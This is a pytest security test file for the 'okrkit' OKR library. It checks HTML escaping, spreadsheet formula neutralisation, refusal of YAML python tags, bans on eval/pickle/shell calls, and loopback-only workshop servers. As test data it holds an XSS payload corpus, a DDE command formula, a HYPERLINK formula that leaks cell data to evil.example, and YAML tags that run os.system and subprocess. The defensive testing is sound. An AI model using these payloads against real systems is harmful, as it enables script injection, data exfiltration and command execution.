"""Security: user text is escaped in HTML, neutralised in spreadsheets, and input is never run.

- An XSS corpus put into every user text of a set (titles, owners, descriptions, units, notes,
  authors, KPI names and sources) never comes out as markup: not in the HTML report, not in the
  notebook displays, not in any ``HTML`` widget of the views. Each output is parsed with
  :mod:`html.parser`, and no injected element, event handler, ``javascript:`` URL or style
  appears, while the text itself shows, as text.
- Texts that a spreadsheet would run as formulas (``=``, ``+``, ``-``, ``@``, tab, CR, DDE) are
  neutralised in CSV and Excel exports and in the Excel report, and read back as they were.
- YAML ``!!python`` tags are refused; no module of okrkit evaluates, unpickles or shells out.
- ``okrkit workshop`` servers listen on 127.0.0.1 with a token unless told otherwise.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import html
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from okrkit import (
    KPI,
    CheckIn,
    Initiative,
    InputError,
    KeyResult,
    Objective,
    OkrSet,
    load_template,
    load_yaml,
)
from okrkit.io.tabular import read_tables, write_csv, write_xlsx
from okrkit.store import Store

ROOT = Path(__file__).resolve().parent.parent
CYCLE = "2026-Q1"
AS_OF = dt.date(2026, 2, 14)

#: Texts that would run script, load content or restyle a page if they reached HTML as markup.
XSS = [
    '<script>alert("xss1")</script>',
    '<img src=x onerror=alert("xss2")>',
    '"><svg onload=alert("xss3")>',
    "'><a href=\"javascript:alert('xss4')\">click</a>",
    '</td></tr></table><iframe src="javascript:alert(`xss5`)"></iframe>',
    "<style>body{background:url(\"javascript:alert('xss6')\")}</style>",
    "<div style=\"width:expression(alert('xss7'))\">wide</div>",
    '&lt;script&gt;alert("xss8")&lt;/script&gt;',
    '\u202e<scr\u200bipt>alert("xss9")</script> résumé 😀',
    '<math><mtext></title><img src=x onerror=alert("xss10")>',
    "<!--<img src=x onerror=alert('xss11')>-->",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xss12</object>',
    "[click me](javascript:alert('xss13')) ![x](javascript:alert('xss14'))",
]
#: Tags okrkit itself writes; anything else in an output came from user text.
OWN_TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4", "p", "div", "span",
    "section", "table", "thead", "tbody", "tr", "th", "td", "img", "b", "i", "em", "strong",
    "small", "code", "ul", "ol", "li", "br", "hr", "caption", "col", "colgroup", "details",
    "summary", "sup", "sub",
}  # fmt: skip
FORMULAS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "''=already quoted twice",
    "-5 % after launch",
]


def evil_set(texts: list[str], cycle: str = CYCLE) -> OkrSet:
    """A set with one of ``texts`` in each user text, cycling through them."""
    pick = iter(texts * 10)
    krs = [
        KeyResult(
            id=f"X-KR{i}",
            title=next(pick),
            owner=next(pick),
            start=0,
            target=100,
            current=40,
            unit=next(pick),
        )
        for i in range(1, 4)
    ]
    krs.append(KeyResult(id="X-KR4", title=next(pick), type="qualitative", owner=next(pick)))
    objectives = [
        Objective(
            id="X-1",
            title=next(pick),
            owner=next(pick),
            level="company",
            description=next(pick),
            key_results=krs,
        ),
        Objective(
            id="X-2",
            title=next(pick),
            owner=next(pick),
            aligns_to=["X-1", "<b>X-9</b>"],
            key_results=[KeyResult(id="X-2-KR1", title=next(pick), start=10, target=0)],
        ),
    ]
    kpis = [
        KPI(
            id="X-KPI1",
            name=next(pick),
            target=10,
            timeframe=next(pick),
            data_source=next(pick),
            frequency="weekly",
            current=3,
            unit=next(pick),
            owner=next(pick),
            measures=["X-KR1"],
        )
    ]
    initiatives = [Initiative(id="X-IN1", title=next(pick), owner=next(pick), link=next(pick))]
    checkins = [
        CheckIn(
            key_result=f"X-KR{i}",
            date=dt.date(2026, 1, 10 + i),
            value=10.0 * i,
            confidence=5,
            note=next(pick),
            author=next(pick),
        )
        for i in (1, 2, 3)
    ] + [CheckIn(key_result="X-KR4", date="2026-02-01", grade=0.5, note=next(pick))]
    return OkrSet(
        cycle=cycle, objectives=objectives, kpis=kpis, initiatives=initiatives, checkins=checkins
    )


class Markup(HTMLParser):
    """Every start tag with its attributes, and the text between tags (entities decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse(markup: str) -> Markup:
    parser = Markup()
    parser.feed(markup)
    parser.close()
    return parser


def assert_no_injection(markup: str, where: str) -> Markup:
    """Fail when ``markup`` holds an element, attribute or comment a payload brought in."""
    found = parse(markup)
    for tag, attrs in found.tags:
        assert tag in OWN_TAGS, f"{where}: <{tag} {attrs}>"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{where}: <{tag} {name}={value!r}>"
            low = value.lower()
            assert "javascript:" not in low and "alert" not in low, f"{where}: {tag} {name}"
            assert "expression(" not in low, f"{where}: {tag} {name}"
            if name in ("src", "href"):
                assert value.startswith(("data:image/png;base64,", "#", "http")), where
    assert not any("xss" in c for c in found.comments), where
    styles = [t for t, _ in found.tags if t == "style"]
    assert len(styles) <= 1, where
    return found


def shown_text(markup: str) -> str:
    return " ".join(" ".join(parse(markup).text).split())


def plain(text: str) -> str:
    return " ".join(text.split())


# --- the HTML report and notebook displays ------------------------------------------------------


@pytest.fixture(scope="module")
def evil() -> OkrSet:
    return evil_set(XSS)


def test_html_report_shows_payloads_as_text(evil: OkrSet, tmp_path: Path) -> None:
    from okrkit.reports import build_report

    report = build_report(evil, as_of=AS_OF)
    path = report.to_html(tmp_path / "report.html")
    markup = path.read_text(encoding="utf-8")
    found = assert_no_injection(markup, "report")
    text = plain(" ".join(found.text))
    for payload in XSS:
        assert plain(payload) in text, payload  # shown, as text
    assert "<script" not in markup.lower() and "<img src=x" not in markup
    imgs = [a for t, a in found.tags if t == "img"]
    assert len(imgs) == 1 and imgs[0]["src"].startswith("data:image/png;base64,")
    assert_no_injection(report._repr_html_(), "report in a notebook")


def test_markdown_report_holds_no_live_html_or_links(evil: OkrSet, tmp_path: Path) -> None:
    from okrkit.reports import build_report

    text = (
        build_report(evil, as_of=AS_OF, picture=False)
        .to_markdown(tmp_path / "r.md")
        .read_text(encoding="utf-8")
    )
    assert not re.search(r"<\s*(script|img|svg|iframe|a|style|div|object|math)\b", text, re.I)
    assert not re.search(r"(?<!\\)\]\(\s*javascript:", text, re.I)  # a live link
    assert "\\[click me\\](javascript:" in text  # shown as written


@pytest.mark.parametrize(
    "shown",
    ["set", "objective", "key_result", "kpi", "checkin"],
)
def test_notebook_display_of_records_escapes(evil: OkrSet, shown: str) -> None:
    obj: Any = {
        "set": evil,
        "objective": evil.objectives[0],
        "key_result": evil.objectives[0].key_results[0],
        "kpi": evil.kpis[0],
        "checkin": evil.checkins[0],
    }[shown]
    markup = obj._repr_html_()
    found = assert_no_injection(markup, shown)
    assert "xss" in " ".join(found.text)  # the payloads show, as text


def test_score_table_escapes(evil: OkrSet) -> None:
    from okrkit import score
    from okrkit.display import score_table

    markup = score_table(score(evil, as_of=AS_OF)).to_html()
    found = assert_no_injection(markup, "score table")
    text = plain(" ".join(found.text))
    assert plain(evil.objectives[0].title) in text


# --- widgets --------------------------------------------------------------------------------------


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store(tmp_path / "okrkit.db") as s:
        s.import_set(load_template("company", CYCLE))
        s.import_set(evil_set(XSS))
        yield s


def html_values(widget: Any) -> Iterator[tuple[str, str]]:
    """(widget class, markup) of every HTML widget in the tree, and of HTML descriptions."""
    import ipywidgets as widgets

    seen: set[int] = set()
    todo = [widget]
    while todo:
        w = todo.pop()
        if id(w) in seen:
            continue
        seen.add(id(w))
        if isinstance(w, widgets.HTML | widgets.HTMLMath):
            yield type(w).__name__, w.value
        if getattr(w, "description_allow_html", False):
            yield f"{type(w).__name__}.description", w.description
        todo.extend(getattr(w, "children", ()) or ())
        for value in vars(w).values():
            if isinstance(value, widgets.Widget):
                todo.append(value)
            elif isinstance(value, list | tuple):
                todo.extend(v for v in value if isinstance(v, widgets.Widget))
        for name in getattr(w, "__dict__", {}):
            value = getattr(w, name, None)
            if isinstance(value, widgets.Widget):
                todo.append(value)
            elif isinstance(value, list | tuple):
                todo.extend(v for v in value if isinstance(v, widgets.Widget))


def assert_view_escapes(view: Any, name: str) -> str:
    shown = []
    count = 0
    for kind, markup in html_values(view):
        count += 1
        found = assert_no_injection(markup, f"{name} {kind}")
        shown.append(" ".join(found.text))
    assert count > 0, name
    return plain(" ".join(shown))


def test_brainstorm_board_escapes(store: Store) -> None:
    from okrkit.ui import brainstorm_board

    view = brainstorm_board(store, cycle=CYCLE, voter=XSS[1])
    for i, payload in enumerate(XSS[:6]):
        view.idea_title.value = payload
        view.idea_owner.value = XSS[-1 - i]
        view.add_button.click()
    view.rows[0].promote_button.click()
    text = assert_view_escapes(view, "brainstorm")
    assert plain(XSS[0]) in text


def test_kr_drafter_escapes(store: Store) -> None:
    from okrkit.ui import kr_drafter

    view = kr_drafter(store, cycle=CYCLE, objective="X-1")
    view.title.value = XSS[4] + " launch the " + XSS[1]
    view.save_button.click()
    text = assert_view_escapes(view, "drafter")
    assert "xss" in text


def test_alignment_editor_escapes(store: Store) -> None:
    from okrkit.ui import alignment_editor

    view = alignment_editor(store, cycle=CYCLE)
    view.objective_pick.value = "X-2"
    text = assert_view_escapes(view, "alignment")
    assert "<b>X-9</b>" in text


def test_checkin_form_escapes(store: Store) -> None:
    from okrkit.ui import checkin_form

    view = checkin_form(store, cycle=CYCLE, key_result="X-KR1", author=XSS[2])
    view.note.value = XSS[3]
    view.save_button.click()
    text = assert_view_escapes(view, "checkin")
    assert plain(XSS[3]) in text or "xss" in text


def test_kpi_board_escapes(store: Store) -> None:
    from okrkit.ui import kpi_board

    text = assert_view_escapes(kpi_board(store, cycle=CYCLE), "kpis")
    assert "xss" in text


def test_quarter_review_escapes(store: Store) -> None:
    from okrkit.ui import quarter_review

    text = assert_view_escapes(quarter_review(store, cycle=CYCLE, as_of=AS_OF), "review")
    assert "xss" in text


# --- formula injection ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def formulas() -> OkrSet:
    return evil_set(FORMULAS)


def dangerous(cell: object) -> bool:
    return isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_neutralises_and_reads_back(formulas: OkrSet, tmp_path: Path) -> None:
    folder = write_csv(formulas, tmp_path / "okrs")
    cells = []
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as f:
            cells += [cell for row in csv.reader(f) for cell in row]
    assert any(c.startswith("'=cmd|") for c in cells)
    bad = [c for c in cells if dangerous(c) and not re.fullmatch(r"-?\d+(\.\d+)?", c)]
    assert bad == []
    assert read_tables(folder) == formulas


def test_excel_export_neutralises_and_reads_back(formulas: OkrSet, tmp_path: Path) -> None:
    path = write_xlsx(formulas, tmp_path / "okrs.xlsx")
    book = openpyxl.load_workbook(path)
    try:
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert not [c.value for c in cells if dangerous(c.value)]
    finally:
        book.close()
    back = read_tables(path)
    # Excel keeps line breaks as \n only: a text that starts with \r reads back with \n.
    assert back == load_yaml_roundtrip(formulas)


def load_yaml_roundtrip(okrs: OkrSet) -> OkrSet:
    """The set as Excel gives it back: \\r as \\n."""
    from okrkit.io.yaml_io import dump_yaml

    return load_yaml(dump_yaml(okrs).replace("\\r", "\\n"))


def test_excel_report_neutralises(formulas: OkrSet, tmp_path: Path) -> None:
    from okrkit.reports import build_report

    report = build_report(formulas, as_of=AS_OF, picture=False)
    path = report.to_xlsx(tmp_path / "report.xlsx")
    book = openpyxl.load_workbook(path)
    try:
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert not [c.value for c in cells if dangerous(c.value)]
        assert any(isinstance(c.value, str) and c.value.startswith("'=cmd|") for c in cells)
    finally:
        book.close()


# --- YAML and code ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system ['touch /tmp/okrkit-owned']",
        "!!python/object/new:subprocess.Popen [[touch, /tmp/okrkit-owned]]",
        "!!python/name:builtins.eval",
        "!!python/module:os",
    ],
)
def test_python_yaml_tags_are_refused(tag: str) -> None:
    with pytest.raises(InputError, match="YAML tag") as info:
        load_yaml(f"cycle: 2026-Q1\nobjectives:\n  - id: O1\n    title: {tag}\n")
    assert info.value.line == 4
    assert not Path("/tmp/okrkit-owned").exists()


def sources() -> list[Path]:
    return sorted((ROOT / "okrkit").rglob("*.py"))


FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
FORBIDDEN_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle"}


@pytest.mark.parametrize("path", sources(), ids=lambda p: str(p.relative_to(ROOT)))
def test_no_eval_pickle_unsafe_yaml_or_shell(path: Path) -> None:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    problems = []
    for node in ast.walk(tree):
        where = f"{path.name}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.Import):
            problems += [where for a in node.names if a.name.split(".")[0] in FORBIDDEN_MODULES]
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] in FORBIDDEN_MODULES:
                problems.append(where)
        elif isinstance(node, ast.Call):
            func = node.func
            name = func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")
            if isinstance(func, ast.Name) and name in FORBIDDEN_CALLS:
                problems.append(f"{where} {name}()")
            owner = (
                func.value.id
                if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name)
                else ""
            )
            if owner == "yaml" and name in ("load", "load_all", "unsafe_load", "full_load"):
                loader = next((k.value for k in node.keywords if k.arg == "Loader"), None)
                text = ast.unparse(loader) if loader is not None else ""
                if not re.search(r"Safe|_Loader", text):
                    problems.append(f"{where} yaml.{name} without a safe loader")
            if owner in ("pickle", "marshal", "shelve"):
                problems.append(f"{where} {owner}.{name}")
            if owner == "pd" and name in ("read_pickle", "eval"):
                problems.append(f"{where} pd.{name}")
            shell = next((k.value for k in node.keywords if k.arg == "shell"), None)
            if isinstance(shell, ast.Constant) and shell.value is True:
                problems.append(f"{where} shell=True")
            if owner == "os" and name in ("system", "popen"):
                problems.append(f"{where} os.{name}")
    assert problems == []


def test_the_yaml_loader_derives_from_the_safe_loader() -> None:
    import yaml

    from okrkit.io._yaml_read import SafeLineLoader

    assert issubclass(SafeLineLoader, yaml.SafeLoader)
    assert "tag:yaml.org,2002:python/object/apply" not in SafeLineLoader.yaml_multi_constructors


# --- workshop servers -----------------------------------------------------------------------------


@pytest.mark.parametrize("app", [True, False], ids=["voila", "lab"])
def test_workshop_defaults_to_loopback_and_a_token(app: bool) -> None:
    """``plan`` with only what ``okrkit workshop`` always passes: 127.0.0.1 and a fresh token.

    tests/test_workshop.py checks every flag of the two command lines; this checks the
    defaults a user gets without asking.
    """
    from okrkit.workshop import plan

    w = plan(app=app, port=9003, database_url="sqlite://", notebooks=ROOT / "notebooks")
    ip = [a for a in w.argv if a.startswith(("--Voila.ip=", "--ServerApp.ip="))]
    assert ip == [("--Voila.ip=" if app else "--ServerApp.ip=") + "127.0.0.1"]
    assert w.token and len(w.token) >= 32
    assert w.env["JUPYTER_TOKEN"] == w.token
    assert not any(w.token in a for a in w.argv)
    assert w.url.startswith("http://127.0.0.1:9003/") and w.url.endswith(f"token={w.token}")


def test_workshop_command_line_defaults(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """``okrkit workshop`` itself: no --ip and no --no-token means loopback with a token."""
    from okrkit import cli, workshop

    started: list[Any] = []
    monkeypatch.setattr(workshop, "start", lambda plan, **kw: started.append(plan) or 0)
    monkeypatch.chdir(tmp_path)
    Store(tmp_path / "w.db").close()
    assert cli.main(["--db", str(tmp_path / "w.db"), "workshop", "--no-browser"]) == 0
    (w,) = started
    assert "127.0.0.1" in w.url and w.token and f"token={w.token}" in w.url
    assert html.escape(w.token) == w.token
